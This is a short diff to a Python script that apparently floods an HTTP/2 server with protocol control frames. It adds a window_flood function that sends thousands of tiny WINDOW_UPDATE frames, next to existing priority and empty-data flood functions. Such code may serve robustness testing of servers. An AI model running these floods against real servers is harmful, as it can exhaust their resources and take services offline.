@@ -62,6 +62,11 @@ def priority_flood():
         send(*[frame(PRIORITY, 0, 1, struct.pack(">IB", 3, 16))] * 100)
 
 
+def window_flood():
+    for _ in range(50):
+        send(*[frame(WINDOW, 0, 0, struct.pack(">I", 1))] * 100)
+
+
 def empty_data_flood():
     send(frame(HEADERS, 4, 1, POST))
     for _ in range(50):
